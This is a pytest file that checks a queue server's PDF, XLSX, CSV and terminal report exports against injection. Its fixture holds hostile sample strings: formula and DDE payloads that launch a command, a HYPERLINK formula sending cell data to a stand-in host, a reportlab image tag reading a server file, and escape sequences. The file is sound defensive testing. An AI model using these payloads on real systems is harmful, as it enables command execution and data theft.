"""Every report file of every document keeps hostile text inert: a PDF never reads a comment or a
name as reportlab markup (no 500 for `a<b`, no file embedded from the server's disk), a spreadsheet
never turns one into a live formula (OWASP: a quote before `= + - @`, tab, CR), a terminal table
never passes escape sequences. The hostile texts sit in every text field that reaches a file:
ratings' comments, the centre's, departments', services', counters' and officers' names."""
from __future__ import annotations

import csv
import io
import random
import subprocess
from datetime import date

import pytest
from openpyxl import load_workbook

from queue_server.config import RatingStyle
from queue_server.reporting import periods
from queue_server.reporting.export import render, render_document
from queue_server.reporting.phu_luc_1 import compute
from queue_server.reports_web.library import DOCUMENTS
from queue_server.storage import Store

from .helpers import rating_rows, ticket_rows, write

PERIOD = periods.custom(date(2026, 10, 16), date(2026, 11, 15))
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")     # OWASP: a cell starting so is a formula


def hostile_texts(image: str) -> list[str]:
    return ["a<b và c>d", f'<img src="{image}" width="200" height="200"/>', '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
            "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "<b>đậm</b> & <font size=80>to</font>", "\x1b[2J\x1b[31mĐỎ", "</para><para>", "&amp; &#0; &lt;"]


@pytest.fixture
def hostile(tmp_path, demo_config):
    """(config, store, texts): every name of the demo centre and the comments of 300 dissatisfied
    ratings replaced by hostile texts; a real PNG at the path the <img> names."""
    from PIL import Image
    image = tmp_path / "secret.png"
    Image.new("RGB", (40, 40), "red").save(image)
    texts = hostile_texts(str(image))
    pick = iter(texts * 100).__next__
    departments = [d.model_copy(update={"name": pick(), "services": [s.model_copy(update={"name": pick()})
                                                                     for s in d.services]})
                   for d in demo_config.departments]
    config = demo_config.model_copy(update={
        "centre": demo_config.centre.model_copy(update={"name": pick()}), "departments": departments,
        "counters": [c.model_copy(update={"name": pick()}) for c in demo_config.counters]})
    store = Store(tmp_path / "centre.db")
    for n, text in enumerate(texts, 1):
        store.db["users"].insert({"id": n, "centre_id": config.centre.id, "username": f"u{n}", "name": text,
                                  "role": "officer", "password_hash": "-", "active": 1,
                                  "created_at": "2026-10-01T08:00:00+07:00"}, alter=True)
    rng = random.Random(5)
    write(store, "tickets", ticket_rows(rng, 300, date(2026, 10, 16), 30, departments))
    ratings = rating_rows(rng, 300, date(2026, 10, 16), 30, [d.id for d in departments], RatingStyle.CATEGORY)
    bad = "dissatisfied_time"
    for i, r in enumerate(ratings):
        r.update(comment=texts[i % len(texts)], officer_id=1 + i % len(texts), value=bad if i % 2 else r["value"])
    write(store, "ratings", ratings)
    yield config, store, texts
    store.close()


def _cells_safe(values) -> None:
    for value in values:
        if isinstance(value, str) and value.startswith(FORMULA_STARTS):
            assert value.replace(".", "").replace(",", "").lstrip("+-").isdigit(), repr(value)


@pytest.mark.parametrize("name", sorted(DOCUMENTS))
def test_exports_hostile_text_stays_inert_in_every_format(hostile, tmp_path, name):
    config, store, texts = hostile
    doc = DOCUMENTS[name](config, store, PERIOD)

    pdf = render_document(doc, "pdf")
    assert pdf.startswith(b"%PDF") and b"/Subtype /Image" not in pdf     # no file pulled off the disk
    (tmp_path / "r.pdf").write_bytes(pdf)
    shown = subprocess.run(["pdftotext", "-layout", str(tmp_path / "r.pdf"), "-"], capture_output=True,
                           text=True, check=True).stdout
    assert config.centre.name in shown                                  # the markup printed as text
    if name == "ratings":
        assert "a<b và c>d" in shown and "</para><para>" in shown

    book = load_workbook(io.BytesIO(render_document(doc, "xlsx")))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    _cells_safe(c.value for c in cells)
    assert any(isinstance(c.value, (int, float)) for c in cells)        # numbers stay numbers

    rows = list(csv.reader(io.StringIO(render_document(doc, "csv").decode("utf-8-sig"), newline="")))
    _cells_safe(v for r in rows for v in r)
    if name == "ratings":
        assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")" in [v for r in rows for v in r]

    assert b"\x1b" not in render_document(doc, "table")


def test_exports_dossier_report_neutralises_department_names(hostile):
    """Phụ lục I (dossiers) names the departments from config: its CSV and XLSX neutralise them."""
    from queue_server.dossiers.model import Department
    config, _, texts = hostile
    report = compute([], PERIOD, [Department(d.id, d.name) for d in config.departments])
    book = load_workbook(io.BytesIO(render(report, "xlsx", config.centre.name)))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    _cells_safe(c.value for c in cells)
    rows = list(csv.reader(io.StringIO(render(report, "csv").decode("utf-8-sig"), newline="")))
    _cells_safe(v for r in rows for v in r)
    assert "'=cmd|' /C calc'!A0" in [v for r in rows for v in r]
    assert b"\x1b" not in render(report, "table")
